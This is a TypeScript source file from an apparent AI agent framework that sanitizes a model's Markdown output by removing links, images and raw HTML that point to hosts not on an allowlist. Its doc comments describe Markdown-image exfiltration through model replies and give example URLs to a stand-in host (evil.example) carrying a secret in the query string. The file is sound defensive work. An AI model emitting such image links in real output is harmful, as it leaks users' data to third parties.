import { z } from 'zod';
import { HOST_PATTERN, hostMatches } from '../internal/hostMatches.js';
import { parseOptions } from '../internal/parseOptions.js';
import { codeUnitsToString } from '../internal/substituteCodeUnits.js';
import { encodeMarkdown } from './encodeMarkdown.js';

/**
 * Options of {@link sanitizeMarkdownLinks}.
 * @category Encoding
 */
export interface SanitizeMarkdownLinksOptions {
  /** Hosts links may point to: `example.com` (exactly that host) or `*.example.com` (any subdomain). Empty: none. */
  readonly allowedHosts: readonly string[];
  /** Schemes links may use, without the colon; default `['https']`. Host-less schemes (`mailto`) skip the host check. */
  readonly allowedProtocols?: readonly string[];
  /** Keep images whose URL is allowed; default false, so every image is dropped (its alt text stays). */
  readonly allowImages?: boolean;
  /** What replaces a bare URL to a host that is not allowed; default `(link removed)`. Shown literally. */
  readonly placeholder?: string;
}

/**
 * The options of {@link sanitizeMarkdownLinks} as a zod schema (used by the plugin's options).
 * @category Encoding
 */
export const SanitizeMarkdownLinksOptionsSchema = z.strictObject({
  /** Hosts links may point to: `example.com` (exactly) or `*.example.com` (any subdomain). */
  allowedHosts: z.array(z.string().regex(HOST_PATTERN, 'a host is a lowercase host name, optionally starting with *.')),
  /** Schemes links may use, without the colon. */
  allowedProtocols: z
    .array(z.string().regex(/^[a-z][a-z0-9+.-]{0,31}$/, 'a protocol is a lowercase scheme without the colon'))
    .default(['https']),
  /** Keep images whose URL is allowed. */
  allowImages: z.boolean().default(false),
  /** What replaces a removed bare URL. */
  placeholder: z.string().max(100).default('(link removed)'),
});

type LinkPolicy = z.output<typeof SanitizeMarkdownLinksOptionsSchema>;

/** The longest link destination considered; a longer one is neutralised. */
const MAX_DESTINATION = 2048;
/** The longest link title considered. */
const MAX_TITLE = 512;
/** The longest authority (user info, host and port) of a bare URL considered; a longer one is removed. */
const MAX_AUTHORITY = 300;
/** The deepest parenthesis nesting inside a destination. */
const MAX_PARENS = 4;
/** An HTML entity reference, which a renderer would decode inside a destination. */
const ENTITY = /&(?:#[0-9]{1,8}|#[xX][0-9A-Fa-f]{1,8}|[A-Za-z][A-Za-z0-9]{1,31});/;
/** A non-empty URL of printable ASCII without a backslash. */
const PRINTABLE_URL = /^[!-[\]-~]+$/;
/** A URL that starts with `scheme://` and a host name made of letters, digits, dots and hyphens (no user info). */
const PLAIN_ORIGIN = /^([A-Za-z][A-Za-z0-9+.-]{0,31}):\/\/([A-Za-z0-9.-]{1,253})(?::[0-9]{1,5})?(?:[/?#]|$)/;
/** Schemes whose URLs have a host to check. */
const HOSTED = new Set(['http:', 'https:', 'ftp:', 'ws:', 'wss:']);

/**
 * Keeps the model's Markdown but removes every link and image to a host that is not allowlisted
 * (R-ACT-OUT-3): the classic exfiltration is an image such as `![](https://evil.example/p.png?d=<secret>)`,
 * which the browser fetches as soon as the reply is shown.
 *
 * @remarks
 * Handled everywhere except fenced code blocks whose extent every renderer agrees on (see below):
 * - inline links and images `[text](url "title")`: kept when the URL is allowed, else reduced to
 *   their text (images to their alt text); images are dropped unless `allowImages` is set;
 * - reference definitions `[id]: url` and autolinks `<url>`: neutralised (escaped) unless allowed;
 * - raw HTML (`<img>`, `<a>`, `<script>`, comments): the `<` becomes `&lt;`, so it shows as text;
 * - bare `http://`, `https://`, `ftp://` and `www.` URLs (auto-linked by GFM), even glued to a
 *   word: replaced by the placeholder unless allowed (a `www.` link becomes `http://`, so it needs
 *   `http` allowed).
 *
 * A fenced code block is left alone only when it opens at column 0 after a blank line, closes with
 * the same fence, holds no other fence-like line, and is closed; otherwise (a fence in a list item
 * or block quote, an indented or unclosed fence) the whole text is scanned, code included.
 *
 * A URL is allowed when it is printable ASCII without a backslash (renderers percent-encode it,
 * which can move the host), absolute, uses an allowed scheme, has no user name or password, holds
 * no HTML entity, and (for schemes with hosts) its host is allowlisted; relative URLs are not
 * allowed. Anything the scanner cannot parse with certainty is neutralised rather than kept. Code
 * spans and indented code are scanned too, so a link-shaped string inside them may be altered.
 * `allowImages` applies to inline images; a reference-style image whose definition points to an
 * allowed host is kept.
 * Renderers that auto-link bare domains (`evil.example`) or protocol-relative `//` URLs, such as
 * markdown-it's fuzzy `linkify`, should have that turned off. Runs in linear time.
 *
 * @param text - the model's Markdown
 * @param options - allowed hosts and schemes, images, placeholder
 * @returns the Markdown without links or images to other hosts
 * @throws {@link @agent-studio/core!index.ConfigurationError} `CONFIG_INVALID` for bad options
 * @example
 * ```ts
 * sanitizeMarkdownLinks('See [docs](https://docs.example.com/a) ![x](https://evil.example/p.png?d=42)',
 *   { allowedHosts: ['docs.example.com'] });
 * // 'See [docs](https://docs.example.com/a) x'
 * ```
 * @category Encoding
 */
export function sanitizeMarkdownLinks(text: string, options: SanitizeMarkdownLinksOptions): string {
  const policy = parseOptions(SanitizeMarkdownLinksOptionsSchema, options, 'sanitizeMarkdownLinks');
  const out: string[] = [];
  for (const segment of splitFences(text)) out.push(segment.code ? segment.text : new LinkScanner(segment.text, policy).run());
  return out.join('');
}

/** A run of the input: fenced code (left alone) or other text. */
interface Segment {
  readonly text: string;
  readonly code: boolean;
}

/** A line that could be a fence in some container (after indentation, `>` or a list marker). */
const FENCE_LIKE = /^[ \t>*+\-.)0-9]*(?:```|~~~)/;

/**
 * Splits text into fenced code blocks, left alone, and the rest. A block counts as code only where
 * every renderer agrees on where it starts and ends: the opening fence (three or more backticks,
 * with no backtick in its info string, or tildes) is at column 0 and follows a blank line or the
 * start of the text; the closing fence is the same run of characters, with nothing but spaces after
 * it; no line in between starts with three of the fence characters; and the block is closed. When
 * any other line looks like a fence (indented, in a block quote or list item, or unclosed), nothing
 * is treated as code, so a renderer can never see Markdown where the scanner saw code.
 */
function splitFences(text: string): Segment[] {
  if (!text.includes('```') && !text.includes('~~~')) return [{ text, code: false }];
  const all: Segment[] = [{ text, code: false }];
  const segments: Segment[] = [];
  let start = 0;
  let pos = 0;
  let previousBlank = true;
  let fence: { run: string; start: number } | undefined;
  while (pos < text.length) {
    const nl = text.indexOf('\n', pos);
    const end = nl === -1 ? text.length : nl + 1;
    const line = text.slice(pos, end);
    if (fence) {
      const trimmed = line.trimStart();
      if (trimmed.startsWith(fence.run.slice(0, 3))) {
        if (line.trimEnd() !== fence.run) return all;
        segments.push({ text: text.slice(fence.start, end), code: true });
        fence = undefined;
        start = end;
      }
    } else {
      const c = line.charCodeAt(0);
      const length = c === 96 || c === 126 ? runLength(line, 0, c) : 0;
      if (length >= 3 && previousBlank && nl !== -1 && !(c === 96 && line.includes('`', length))) {
        if (pos > start) segments.push({ text: text.slice(start, pos), code: false });
        fence = { run: line.slice(0, length), start: pos };
      } else if (FENCE_LIKE.test(line)) {
        return all;
      }
    }
    previousBlank = line.trim() === '';
    pos = end;
  }
  if (fence) return all;
  if (start < text.length) segments.push({ text: text.slice(start), code: false });
  return segments;
}

/** The number of `char` characters from `at`. */
function runLength(text: string, at: number, char: number): number {
  let n = 0;
  while (at + n < text.length && text.charCodeAt(at + n) === char) n++;
  return n;
}

/** Characters a destination may hold without further thought (RFC 3986, minus parentheses and brackets), by code. */
const URL_CHAR = new Uint8Array(128);
for (const c of "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~:/?#@!$&'*+,;=%") URL_CHAR[c.charCodeAt(0)] = 1;

/** Whether a character may appear in a destination without further thought. */
function isUrlChar(c: number): boolean {
  return c < 128 && URL_CHAR[c] === 1;
}

/**
 * The length of the bare-URL prefix at `i` (`http://` 7, `https://` 8, `ftp://` 6, `www.` 0), any
 * case, or -1 when there is none.
 */
function bareScheme(text: string, i: number): number {
  const lower = (k: number): number => text.charCodeAt(i + k) | 32;
  const c = lower(0);
  if (c === 119) return lower(1) === 119 && lower(2) === 119 && text.charCodeAt(i + 3) === 46 ? 0 : -1;
  const slashes = (k: number): boolean => text.charCodeAt(i + k) === 58 && text.charCodeAt(i + k + 1) === 47 && text.charCodeAt(i + k + 2) === 47;
  if (c === 102) return lower(1) === 116 && lower(2) === 112 && slashes(3) ? 6 : -1;
  if (c !== 104 || lower(1) !== 116 || lower(2) !== 116 || lower(3) !== 112) return -1;
  if (slashes(4)) return 7;
  return lower(4) === 115 && slashes(5) ? 8 : -1;
}

/** Whether a character may appear in a plain host name (letters, digits, `.`, `-`). */
function isHostChar(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 65 && c <= 90) || (c >= 48 && c <= 57) || c === 46 || c === 45;
}

/**
 * Whether the plain host name `text[from, to)` (letters, digits, dots, hyphens) is allowlisted,
 * compared case-insensitively without copying it. For such a host the URL parser's host name is the
 * same text lowercased (or, for numeric forms, a normalised address that a name entry never equals),
 * so an exact match here is a match there.
 */
function hostMatchesAt(text: string, from: number, to: number, hosts: readonly string[]): boolean {
  const length = to - from;
  for (const host of hosts) {
    const wildcard = host.startsWith('*.');
    const suffix = wildcard ? host.slice(1) : host;
    if (wildcard ? length <= suffix.length : length !== suffix.length) continue;
    const offset = to - suffix.length;
    let same = true;
    for (let k = 0; k < suffix.length && same; k++) {
      const a = text.charCodeAt(offset + k);
      same = (a >= 65 && a <= 90 ? a | 32 : a) === suffix.charCodeAt(k);
    }
    if (same) return true;
  }
  return false;
}

/** Whether a character is an ASCII letter or digit. */
function isAlnum(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 65 && c <= 90) || (c >= 48 && c <= 57);
}

/** Whether a character is ASCII punctuation (backslash-escapable in CommonMark). */
function isPunct(c: number): boolean {
  return (c >= 33 && c <= 47) || (c >= 58 && c <= 64) || (c >= 91 && c <= 96) || (c >= 123 && c <= 126);
}

/** A parsed destination: where the construct ends and its URL. */
interface Destination {
  readonly end: number;
  readonly url: string;
}

/** What happens to a character, marked per position: 0 copy it. */
const COPY = 0;
/** Write `\\(` instead (the `(` can then not open a destination). */
const ESCAPED_PAREN = 1;
/** Write `\\:` instead (the `]:` can then not start a reference definition). */
const ESCAPED_COLON = 2;
/** Write `&lt;` instead: an entity rather than a backslash, as a renderer's linkify may swallow a backslash into a preceding URL. */
const LT_ENTITY = 3;
/** Drop the character (the `[` or `!` of a dropped link). */
const DELETE = 4;
/** Drop the range that starts here (a dropped destination). */
const DROP_RANGE = 5;
/** Write the placeholder instead of the range that starts here (a bare URL). */
const PLACEHOLDER_RANGE = 6;
/** What the single-character marks write. */
const CHARACTER_REPLACEMENTS: readonly string[] = ['', '\\(', '\\:', '&lt;'];

/** The characters the scanner stops at (below 128); every other character is copied as is. */
const TRIGGER = new Uint8Array(128);
for (const c of '\\![]<hHwWfF') TRIGGER[c.charCodeAt(0)] = 1;

/** One left-to-right pass over a non-code segment; every step is bounded, so the pass is linear. */
class LinkScanner {
  readonly #text: string;
  readonly #policy: LinkPolicy;
  /** The placeholder, encoded. */
  readonly #placeholder: string;
  /** Whether the policy allows the schemes of bare URLs. */
  readonly #allowHttp: boolean;
  readonly #allowHttps: boolean;
  readonly #allowFtp: boolean;
  /** What happens to each character (see {@link COPY}); allocated on the first change. */
  #marks: Uint8Array | undefined;
  /** The ends of the marked ranges, in source order. */
  readonly #rangeEnds: number[] = [];
  /** How many characters the output may gain. */
  #growth = 0;
  /** Open brackets, a stack: position × 2, plus 1 for an image (`![`). */
  #openers = new Int32Array(64);
  #openerCount = 0;
  /** The end of the last run measured by {@link LinkScanner.#runEnd}. */
  #runEndCache = -1;

  constructor(text: string, policy: LinkPolicy) {
    this.#text = text;
    this.#policy = policy;
    this.#placeholder = encodeMarkdown(policy.placeholder);
    this.#allowHttp = policy.allowedProtocols.includes('http');
    this.#allowHttps = policy.allowedProtocols.includes('https');
    this.#allowFtp = policy.allowedProtocols.includes('ftp');
  }

  run(): string {
    const text = this.#text;
    const n = text.length;
    let i = 0;
    while (i < n) {
      const c = text.charCodeAt(i);
      if (c >= 128 || TRIGGER[c] === 0) {
        i += 1;
        continue;
      }
      const next = text.charCodeAt(i + 1);
      if (c === 92) {
        // backslash: an escaped punctuation character is literal
        i += isPunct(next) ? 2 : 1;
      } else if (c === 91 || (c === 33 && next === 91)) {
        this.#pushOpener(c === 33 ? (i + 1) * 2 + 1 : i * 2);
        i += c === 33 ? 2 : 1;
      } else if (c === 93) {
        i = this.#closeBracket(i);
      } else if (c === 60) {
        i = this.#angle(i);
      } else if (((c | 32) === 104 || (c | 32) === 102 ? (next | 32) === 116 : (c | 32) === 119 && (next | 32) === 119)) {
        // No word-boundary test: some renderers auto-link a URL glued to a word ("seehttps://…").
        i = this.#bareUrl(i);
      } else {
        i += 1;
      }
    }
    return this.#assemble();
  }

  /** Handles `]` at `i`: an inline link or image, a reference definition, or plain text. */
  #closeBracket(i: number): number {
    const text = this.#text;
    const opener = this.#openerCount > 0 ? (this.#openers[--this.#openerCount] as number) : undefined;
    const next = text.charCodeAt(i + 1);
    if (next === 40) {
      const dest = this.#inlineDestination(i + 1);
      if (dest === undefined) return this.#mark(i + 1, ESCAPED_PAREN);
      const image = opener !== undefined && opener % 2 === 1;
      if (this.#allowed(dest.url) && (!image || this.#policy.allowImages)) return dest.end;
      // Drop the link or image, keep its text.
      if (opener !== undefined) {
        const bracket = Math.floor(opener / 2);
        this.#mark(bracket, DELETE);
        if (image) this.#mark(bracket - 1, DELETE);
      }
      return this.#markRange(i, dest.end, DROP_RANGE);
    }
    if (next === 58) {
      const dest = this.#definitionDestination(i + 2);
      if (dest !== undefined && this.#allowed(dest.url)) return i + 2;
      return this.#mark(i + 1, ESCAPED_COLON);
    }
    return i + 1;
  }

  /** Handles `<` at `i`: keeps an allowed autolink, escapes any other autolink or HTML tag. */
  #angle(i: number): number {
    const text = this.#text;
    const next = text.charCodeAt(i + 1);
    if (!(isAlnum(next) || next === 47 || next === 33 || next === 63)) return i + 1;
    let j = i + 1;
    while (j < text.length && j - i <= MAX_DESTINATION) {
      const c = text.charCodeAt(j);
      if (c <= 32 || c === 60 || c === 62 || c === 127) break;
      j++;
    }
    if (text.charCodeAt(j) === 62 && /^[A-Za-z][A-Za-z0-9+.-]{1,31}:/.test(text.slice(i + 1, i + 34)) && this.#allowed(text.slice(i + 1, j))) return j + 1;
    return this.#mark(i, LT_ENTITY);
  }

  /** Handles a bare `http://`, `https://`, `ftp://` or `www.` URL at `i`: replaced unless allowed. */
  #bareUrl(i: number): number {
    const text = this.#text;
    const scheme = bareScheme(text, i);
    if (scheme < 0) return i + 1;
    const end = this.#runEnd(i);
    // Only the scheme and authority decide the host; reading no further keeps nested URLs linear.
    const from = i + scheme;
    let to = from;
    let plain = true;
    while (to < end && to - from <= MAX_AUTHORITY) {
      const c = text.charCodeAt(to);
      if (c === 47 || c === 63 || c === 35) break;
      if (!isHostChar(c)) plain = false;
      to++;
    }
    if (to - from > MAX_AUTHORITY) return this.#markRange(i, end, PLACEHOLDER_RANGE);
    const protocolAllowed = scheme === 0 || scheme === 7 ? this.#allowHttp : scheme === 8 ? this.#allowHttps : this.#allowFtp;
    const allowed = plain
      ? protocolAllowed && hostMatchesAt(text, from, to, this.#policy.allowedHosts)
      : this.#allowed(`${scheme === 0 ? 'http://' : text.slice(i, from)}${text.slice(from, to)}/`);
    return allowed ? i + 1 : this.#markRange(i, end, PLACEHOLDER_RANGE);
  }

  /** The end of the run of characters from `i` up to whitespace, a control character or `<` (cached: runs do not overlap). */
  #runEnd(i: number): number {
    if (i < this.#runEndCache) return this.#runEndCache;
    const text = this.#text;
    let end = i;
    while (end < text.length) {
      const c = text.charCodeAt(end);
      if (c <= 32 || c === 60 || c === 127) break;
      end++;
    }
    this.#runEndCache = end;
    return end;
  }

  /** Parses `(url "title")` from the `(` at `open`; undefined when it is not certainly a destination. */
  #inlineDestination(open: number): Destination | undefined {
    const text = this.#text;
    const first = text.charCodeAt(open + 1);
    // Fast refusal: nothing that can start a destination, a title or the closing parenthesis.
    if (!isUrlChar(first) && first !== 60 && first !== 41 && first !== 40 && first !== 32 && first !== 9 && first !== 10 && first !== 13) return undefined;
    let j = this.#skipSpace(open + 1);
    let urlStart: number;
    let urlEnd: number;
    if (text.charCodeAt(j) === 60) {
      urlStart = j + 1;
      j = urlStart;
      while (j < text.length && j - urlStart <= MAX_DESTINATION) {
        const c = text.charCodeAt(j);
        if (c === 62 || c === 60 || c === 10 || c === 92) break;
        j++;
      }
      if (text.charCodeAt(j) !== 62) return undefined;
      urlEnd = j;
      j += 1;
    } else {
      urlStart = j;
      j = this.#scanUrl(j);
      if (j < 0) return undefined;
      urlEnd = j;
    }
    const afterUrl = j;
    j = this.#skipSpace(j);
    const q = text.charCodeAt(j);
    if (j > afterUrl && (q === 34 || q === 39 || q === 40)) {
      const close = q === 40 ? 41 : q;
      const start = j;
      j += 1;
      while (j < text.length && j - start <= MAX_TITLE) {
        const c = text.charCodeAt(j);
        if (c === close || (q === 40 && c === 40)) break;
        j += c === 92 ? 2 : 1;
      }
      if (text.charCodeAt(j) !== close) return undefined;
      j = this.#skipSpace(j + 1);
    }
    if (text.charCodeAt(j) !== 41) return undefined;
    return { end: j + 1, url: text.slice(urlStart, urlEnd) };
  }

  /** Parses the destination of a reference definition that starts at `at`; undefined when unsure. */
  #definitionDestination(at: number): Destination | undefined {
    const text = this.#text;
    const start = this.#skipSpace(at);
    const end = this.#scanUrl(start);
    if (end < 0 || end === start) return undefined;
    const c = text.charCodeAt(end);
    if (end < text.length && c !== 32 && c !== 9 && c !== 10 && c !== 13) return undefined;
    return { end, url: text.slice(start, end) };
  }

  /** Scans URL characters with balanced parentheses from `at`; returns the end, or -1 when too long or too nested. */
  #scanUrl(at: number): number {
    const text = this.#text;
    let j = at;
    let depth = 0;
    while (j < text.length) {
      if (j - at > MAX_DESTINATION) return -1;
      const c = text.charCodeAt(j);
      if (isUrlChar(c)) j++;
      else if (c === 40) {
        if (++depth > MAX_PARENS) return -1;
        j++;
      } else if (c === 41 && depth > 0) {
        depth--;
        j++;
      } else break;
    }
    return depth === 0 ? j : -1;
  }

  /** Skips spaces and tabs, and at most one line break. */
  #skipSpace(at: number): number {
    const text = this.#text;
    let j = at;
    let newlines = 0;
    while (j < text.length) {
      const c = text.charCodeAt(j);
      if (c === 32 || c === 9 || c === 13) j++;
      else if (c === 10 && newlines === 0) {
        newlines++;
        j++;
      } else break;
    }
    return j;
  }

  /**
   * Whether a destination may stay: printable ASCII without a backslash (a renderer percent-encodes
   * `\\`, which moves the host), no HTML entity (a renderer decodes it), absolute, an allowed scheme,
   * no user name or password, and an allowlisted host.
   */
  #allowed(raw: string): boolean {
    if (!PRINTABLE_URL.test(raw) || ENTITY.test(raw)) return false;
    const plain = PLAIN_ORIGIN.exec(raw);
    if (plain) {
      // A plain `scheme://host[:port]` start: the URL parser would give this very host (lowercased), so skip it.
      const scheme = (plain[1] as string).toLowerCase();
      if (!this.#policy.allowedProtocols.includes(scheme)) return false;
      if (!HOSTED.has(`${scheme}:`)) return this.#parsedAllowed(raw);
      return hostMatches((plain[2] as string).toLowerCase(), this.#policy.allowedHosts);
    }
    return this.#parsedAllowed(raw);
  }

  /** The general check, through the WHATWG URL parser. */
  #parsedAllowed(raw: string): boolean {
    let url: URL;
    try {
      url = new URL(raw);
    } catch {
      return false;
    }
    if (!this.#policy.allowedProtocols.includes(url.protocol.slice(0, -1))) return false;
    if (url.username !== '' || url.password !== '') return false;
    if (!HOSTED.has(url.protocol) && url.host === '') return true;
    return hostMatches(url.hostname, this.#policy.allowedHosts);
  }


  /** Pushes an open bracket. */
  #pushOpener(value: number): void {
    if (this.#openerCount === this.#openers.length) {
      const grown = new Int32Array(this.#openers.length * 2);
      grown.set(this.#openers);
      this.#openers = grown;
    }
    this.#openers[this.#openerCount++] = value;
  }

  /** Marks what happens to the character at `at`; returns the position after it. */
  #mark(at: number, mark: number): number {
    this.#marks ??= new Uint8Array(this.#text.length);
    this.#marks[at] = mark;
    this.#growth += (CHARACTER_REPLACEMENTS[mark] ?? '').length;
    return at + 1;
  }

  /** Marks the range `[start, end)` (found in source order); returns `end`, where scanning goes on. */
  #markRange(start: number, end: number, mark: number): number {
    this.#marks ??= new Uint8Array(this.#text.length);
    this.#marks[start] = mark;
    this.#rangeEnds.push(end);
    if (mark === PLACEHOLDER_RANGE) this.#growth += this.#placeholder.length;
    return end;
  }

  /** Writes the output in one pass over the marks, into one typed array. */
  #assemble(): string {
    const text = this.#text;
    const marks = this.#marks;
    if (marks === undefined) return text;
    const out = new Uint16Array(text.length + this.#growth);
    const ends = this.#rangeEnds;
    let j = 0;
    let range = 0;
    for (let k = 0; k < text.length; k++) {
      const mark = marks[k] as number;
      if (mark === COPY) out[j++] = text.charCodeAt(k);
      else if (mark === DELETE) continue;
      else if (mark >= DROP_RANGE) {
        if (mark === PLACEHOLDER_RANGE) for (let p = 0; p < this.#placeholder.length; p++) out[j++] = this.#placeholder.charCodeAt(p);
        k = (ends[range++] as number) - 1;
      } else {
        const replacement = CHARACTER_REPLACEMENTS[mark] as string;
        for (let p = 0; p < replacement.length; p++) out[j++] = replacement.charCodeAt(p);
      }
    }
    return codeUnitsToString(out.subarray(0, j));
  }
}
